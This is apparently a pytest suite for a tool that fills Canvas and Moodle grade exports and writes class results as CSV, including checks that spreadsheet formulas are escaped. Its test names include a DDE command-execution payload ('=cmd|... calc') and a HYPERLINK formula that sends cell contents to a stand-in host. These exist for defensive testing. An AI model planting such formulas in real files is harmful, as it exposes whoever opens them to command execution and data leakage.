"""Canvas's gradebook and Moodle's worksheet: one column filled in, every other byte as it was; and the class as CSV."""

import csv
import io
import json
import unicodedata
from dataclasses import replace
from fractions import Fraction
from random import Random

import pytest

from grader.judge import broken, not_gradable
from grader.outcome import Member, Report, Status
from grader.report.exports import canvas, moodle, people
from grader.report.exports.cells import read_cells
from grader.report.exports.marks import BadTable, Mark, maximum, number
from tests.grading import job

AWKWARD = (
    '"Lovelace, Ada"',
    '"O""Hara ""Quote"" Scarlett"',
    "=cmd|' /C calc'!A0",
    "\N{HEBREW LETTER ALEF}\N{RIGHT-TO-LEFT OVERRIDE}\N{HEBREW LETTER BET}",
    "\N{SNAKE} Guido",
    unicodedata.normalize("NFC", "Zoë"),
    unicodedata.normalize("NFD", "Zoë"),
    '"two\r\nlines"',
    "",
)
COLUMN = "Homework 1: Echo (4711)"


def gradebook(
    separator: str = ",", end: str = "\r\n", start: str = "\ufeff", points: str = "100.00"
) -> bytes:
    """A gradebook as Canvas exports it. The students are numbered from 100; their old scores are awkward too."""
    heads = ["Student", "ID", "SIS Login ID", "Section", "Homework 0 (4710)", f'"{COLUMN}"', "Current Score"]
    lines = [
        heads,
        ["", "", "", "", "Manual Posting", "", ""],
        ["    Points Possible", "", "", "", "5", points, "(read only)"],
    ]
    for place, name in enumerate(AWKWARD):
        old = ("", "12.50", '"12.50"')[place % 3]
        lines.append([name, str(100 + place), "login", "Section 1", "EX", old, "n/a"])
    return (start + end.join(separator.join(line) for line in lines) + end).encode()


def worksheet(points: str = "100.00", ends: str = "\n") -> bytes:
    """A grading worksheet as Moodle writes it. The participants are numbered from 100."""
    lines = [
        "Identifier,Full name,Status,Grade,Maximum Grade,Grade can be changed,Last modified (grade),Feedback comments"
    ]
    for place, name in enumerate(AWKWARD):
        when = '"Monday, 2 March 2026, 10:00 AM"'
        lines.append(f"Participant {100 + place},{name},Submitted,,{points},Yes,{when},<p>hello</p>")
    return (ends.join(lines) + ends).encode()


def scored(student: object, percent: int | Fraction, name: str = "") -> Mark:
    return Mark(student=str(student), name=name, share=Fraction(percent) / 100)


MARKS = (scored(100, 87), scored(101, Fraction("78.3")), scored(102, 0), scored(107, 100))


def differences(before: bytes, after: bytes) -> list[tuple[int, int, str, str]]:
    """The cells that differ: row, column, before, after. Both must have the same shape."""
    tables = [list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) for data in (before, after)]
    return [
        (row, column, old, new)
        for row, pair in enumerate(zip(*tables, strict=True))
        for column, (old, new) in enumerate(zip(*pair, strict=True))
        if old != new
    ]


def test_canvas_gets_one_column_and_keeps_every_other_byte() -> None:
    data = gradebook()
    filled = canvas.fill(data, MARKS, COLUMN)
    assert differences(data, filled.data) == [
        (3, 5, "", "87"),
        (4, 5, "12.50", "78.3"),
        (5, 5, "12.50", "0"),
        (10, 5, "12.50", "100"),
    ]
    assert not filled.remarks
    by_hand = data.replace(b'Ada",100,login,Section 1,EX,,', b'Ada",100,login,Section 1,EX,87,')
    by_hand = by_hand.replace(b"101,login,Section 1,EX,12.50,", b"101,login,Section 1,EX,78.3,")
    by_hand = by_hand.replace(b'102,login,Section 1,EX,"12.50",', b'102,login,Section 1,EX,"0",')
    by_hand = by_hand.replace(b"107,login,Section 1,EX,12.50,", b"107,login,Section 1,EX,100,")
    assert filled.data == by_hand


@pytest.mark.parametrize("start", ["", "\ufeff"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_without_results_nothing_changes(separator: str, end: str, start: str) -> None:
    data = gradebook(separator, end, start)
    if separator != ",":
        data = data.replace(b'O""Hara', b"O,Hara")
    assert canvas.fill(data, (), COLUMN).data == data
    assert moodle.fill(worksheet(ends=end), (), "").data == worksheet(ends=end)


def test_the_last_line_needs_no_end() -> None:
    data = gradebook().removesuffix(b"\r\n")
    assert canvas.fill(data, (), COLUMN).data == data
    assert canvas.fill(data, MARKS, COLUMN).data == canvas.fill(gradebook(), MARKS, COLUMN).data.removesuffix(
        b"\r\n"
    )


def test_canvas_with_the_title_alone_and_a_decimal_comma() -> None:
    filled = canvas.fill(gradebook(points="10,00", separator=";"), MARKS, "Homework 1: Echo")
    cells = [row[5].value for row in read_cells(filled.data).rows[3:6]]
    assert cells == ["8,7", "7,83", "0"]


def test_a_column_before_the_section_is_no_assignment() -> None:
    data = gradebook().replace(b"SIS Login ID", COLUMN.encode())
    assert {column for _, column, *_ in differences(data, canvas.fill(data, MARKS, COLUMN).data)} == {5}


def test_moodle_gets_its_grades() -> None:
    data = worksheet()
    filled = moodle.fill(data, MARKS, "")
    assert differences(data, filled.data) == [
        (row, 3, "", value) for row, value in ((1, "87"), (2, "78.3"), (3, "0"), (8, "100"))
    ]
    assert moodle.fill(data, MARKS, "Grade") == filled
    tenths = moodle.fill(worksheet('"10,00"'), MARKS, "")
    assert [row[3].value for row in read_cells(tenths.data).rows[1:4]] == ["8,7", "7,83", "0"]


def test_moodle_keeps_a_grade_that_is_locked() -> None:
    data = worksheet().replace(b"100.00,Yes", b"100.00,No", 1)
    filled = moodle.fill(data, MARKS[:1], "")
    assert filled.data == data
    assert filled.remarks == ("100: Moodle lets nobody change the grade, so the cell stays as it is.",)


@pytest.mark.parametrize("why", ["broken", "excused"])
def test_who_has_no_score_keeps_the_cell_and_is_named(why: str) -> None:
    mark = Mark(student="101", name="Scarlett", share=None, why=why)
    for fill, data in ((canvas.fill, gradebook()), (moodle.fill, worksheet())):
        filled = fill(data, (mark,), COLUMN if fill is canvas.fill else "")
        assert filled.data == data
        [remark] = filled.remarks
        assert remark.startswith("Scarlett (101): ") and remark.endswith("so the cell stays as it is.")


CANVAS_REFUSED = (
    (gradebook(), (scored(99, 1, "Eve"),), COLUMN, "no row for Eve (99)"),
    (gradebook().replace(b",101,", b",100,"), MARKS[:1], COLUMN, "100 is there twice, in rows 4 and 5"),
    (gradebook(), MARKS, "Homework 2", 'no column "Homework 2"'),
    (gradebook(), MARKS, "", "Which column is to be filled"),
    (gradebook(), MARKS, "Current Score", 'no column "Current Score"'),
    (
        gradebook().replace(b"(4710)", b"(4711)").replace(b"Homework 0", b"Homework 1: Echo"),
        MARKS,
        COLUMN,
        "2 columns",
    ),
    (gradebook(points="(read only)"), MARKS, COLUMN, 'are "(read only)"'),
    (gradebook(points="0"), MARKS, COLUMN, 'are "0"'),
    (gradebook(points='"1,000"'), MARKS, COLUMN, 'are "1,000"'),
    (gradebook().replace(b"Points Possible", b"Maximum"), MARKS, COLUMN, 'no row "Points Possible"'),
    (gradebook().replace(b",ID,", b",Number,", 1), MARKS, COLUMN, 'no column "ID"'),
    (gradebook().replace(b"SIS Login ID", b"ID", 1), MARKS, COLUMN, 'two columns "ID"'),
    (gradebook().replace(b"Student,", b"Name,", 1), MARKS, COLUMN, 'no column "Student"'),
    (gradebook().replace(b",Section,", b",Group,", 1), MARKS, COLUMN, 'no column "Section"'),
    (gradebook() + b"short,line\r\n", MARKS, COLUMN, "row 13 has 2 cells"),
    (gradebook() + b'"never closed', MARKS, COLUMN, "a quote that does not end"),
    (gradebook() + b'"Eve"x,,,,,,\r\n', MARKS, COLUMN, "behind the quotes"),
    (
        gradebook().decode().encode("utf-16"),
        MARKS,
        COLUMN,
        "byte 0 of it is no UTF-8: take the file as it was downloaded",
    ),
    (b"", MARKS, COLUMN, "it is empty"),
    (worksheet(), MARKS, COLUMN, 'no column "ID"'),
)


@pytest.mark.parametrize(("data", "marks", "column", "sentence"), CANVAS_REFUSED)
def test_canvas_is_refused(data: bytes, marks: tuple[Mark, ...], column: str, sentence: str) -> None:
    with pytest.raises(BadTable) as refused:
        canvas.fill(data, marks, column)
    assert sentence in str(refused.value)


MOODLE_REFUSED = (
    (worksheet(), (scored(99, 1),), "", "no row for 99"),
    (worksheet().replace(b"Participant 101", b"Participant 100"), MARKS[:1], "", "100 is there twice"),
    (worksheet().replace(b"Participant 101", b"nobody"), MARKS, "", 'in row 3 the Identifier is "nobody"'),
    (worksheet().replace(b"Identifier", b"ID"), MARKS, "", 'no column "Identifier"'),
    (worksheet().replace(b",Grade,", b",Bewertung,"), MARKS, "", 'no column "Grade"'),
    (worksheet().replace(b"Maximum Grade", b"Scale"), MARKS, "", 'no column "Maximum Grade"'),
    (worksheet().replace(b"Last modified (grade)", b"Grade"), MARKS, "", 'no column "Last modified (grade)"'),
    (worksheet("-"), MARKS, "", 'the Maximum Grade is "-"'),
    (worksheet(), MARKS, "Status", "leave --column out"),
    (gradebook(), MARKS, "", 'no column "Identifier"'),
)


@pytest.mark.parametrize(("data", "marks", "column", "sentence"), MOODLE_REFUSED)
def test_moodle_is_refused(data: bytes, marks: tuple[Mark, ...], column: str, sentence: str) -> None:
    with pytest.raises(BadTable) as refused:
        moodle.fill(data, marks, column)
    assert sentence in str(refused.value)


def test_cells_are_those_that_csv_reads() -> None:
    random = Random(4711)
    for _ in range(300):
        separator, end = random.choice(",;\t"), random.choice(["\n", "\r\n", "\r"])
        # Of a line end that is not its own, csv.writer does not know that it needs quotes.
        quoting = random.choice((csv.QUOTE_ALL, csv.QUOTE_MINIMAL)) if end == "\r\n" else csv.QUOTE_ALL
        width = random.randrange(2, 5)
        rows = [
            ["".join(random.choices('ab",;\t\r\n é', k=random.randrange(5))) for _ in range(width)]
            for _ in range(random.randrange(1, 6))
        ]
        text = io.StringIO()
        csv.writer(text, delimiter=separator, lineterminator=end, quoting=quoting).writerows(
            [[f"head {number}" for number in range(width)], *rows]
        )
        cells = read_cells(text.getvalue().encode())
        assert [[cell.value for cell in row] for row in cells.rows[1:]] == rows
        assert cells.filled(0, {}) == text.getvalue().encode()
        where = random.randrange(1, len(cells.rows))
        again = read_cells(cells.filled(width - 1, {where: "1,5"}))
        rows = [[cell.value for cell in row] for row in cells.rows]
        rows[where][-1] = "1,5"
        assert [[cell.value for cell in row] for row in again.rows] == rows


NUMBERS = (
    ("87", "100", "87"), ("78.3", "100", "78.3"), ("78.3", "10", "7.83"), ("100", "0.5", "0.5"), ("0", "10", "0"),
    ("33.3", "0.1", "0.03"), ("1", "0.5", "0.01"), ("0.9", "0.5", "0"), ("99.99", "10", "10"), ("10", "100", "10"),
)  # fmt: skip


@pytest.mark.parametrize(("percent", "most", "written"), NUMBERS)
def test_numbers(percent: str, most: str, written: str) -> None:
    assert number(Fraction(percent) / 100, Fraction(most)) == written


@pytest.mark.parametrize("cell", ["", "-", "-5", "0", "0.00", "1,000", "1.000,00", "1e3", "٣", "5/2", "inf"])
def test_what_is_no_number_of_points(cell: str) -> None:
    data = f'a,b\n"{cell}",c\n'.encode()
    with pytest.raises(ValueError, match=r"^"):
        maximum(read_cells(data).rows[1][0])


def reports() -> list[Report]:
    """A class: a group with a score, a formula for a name, and a failure of ours."""
    good = replace(not_gradable(job("ada+bob")), status=Status.GRADED, score=87)
    found = [good, replace(good, submission="=1+1", score=40), broken(job("eve"), "we failed")]
    members = {"ada+bob": (Member(id="ada"), Member(id="bob"))}
    return [replace(one, members=members.get(one.submission, (Member(id=one.submission),))) for one in found]


FORMULA = '=HYPERLINK("http://e.test?"&A1)'
CLASS = {
    "ada": Mark(student="ada", name="Lovelace, Ada", share=Fraction("78.3") / 100, why="late"),
    "bob": Mark(student="bob", share=Fraction(87, 100)),
    "=1+1": Mark(student="=1+1", name=FORMULA, share=Fraction(40, 100)),
    "eve": Mark(student="eve", name="-Eve", share=None, why="broken"),
}


def test_csv_for_programs_is_exact() -> None:
    data = people.for_programs(reports(), CLASS).decode()
    heads, *rows = csv.reader(io.StringIO(data, newline=""), strict=True)
    assert heads[:8] == ["student", "name", "submission", "status", "judged", "score", "max_score", "note"]
    assert [row[:8] for row in rows] == [
        ["ada", "Lovelace, Ada", "ada+bob", "graded", "87", "78.3", "100", "late"],
        ["bob", "", "ada+bob", "graded", "87", "87", "100", ""],
        ["=1+1", FORMULA, "=1+1", "graded", "40", "40", "100", ""],
        ["eve", "-Eve", "eve", "broken", "", "", "100", "broken"],
    ]
    assert "listens" in heads and rows[3][heads.index("listens")] == "broken"


def test_csv_for_people_has_no_formula() -> None:
    data = people.for_people(reports(), CLASS)
    assert data.startswith(b'\xef\xbb\xbf"student",') and data.endswith(b"\r\n")
    exact = csv.reader(io.StringIO(people.for_programs(reports(), CLASS).decode(), newline=""))
    tame = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)
    for cells, harmless in zip(exact, tame, strict=True):
        for cell, written in zip(cells, harmless, strict=True):
            assert written == (f"'{cell}" if cell[:1] in ("=", "-", "+", "@") and cell else cell)
            assert written[:1] not in ("=", "+", "-", "@")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "\u00a0+"])
def test_what_a_spreadsheet_may_run(start: str) -> None:
    assert people.harmless(f"{start}1").startswith("'")
    assert people.harmless(f"1{start}") == f"1{start}"


def test_json_has_numbers_and_no_score_for_a_failure_of_ours() -> None:
    table = json.loads(people.as_json(reports(), CLASS))
    assert (table["format"], table["step"], len(table["students"])) == (2, "hw01_echo", 4)
    ada, bob, _, eve = table["students"]
    assert (ada["judged"], ada["score"], ada["max_score"], ada["note"]) == (87, 78.3, 100, "late")
    assert (bob["student"], bob["submission"], bob["judged"], bob["score"]) == ("bob", "ada+bob", 87, 87)
    assert (eve["judged"], eve["score"], eve["status"]) == (None, None, "broken")
    assert set(eve["outcomes"].values()) == {"broken"}
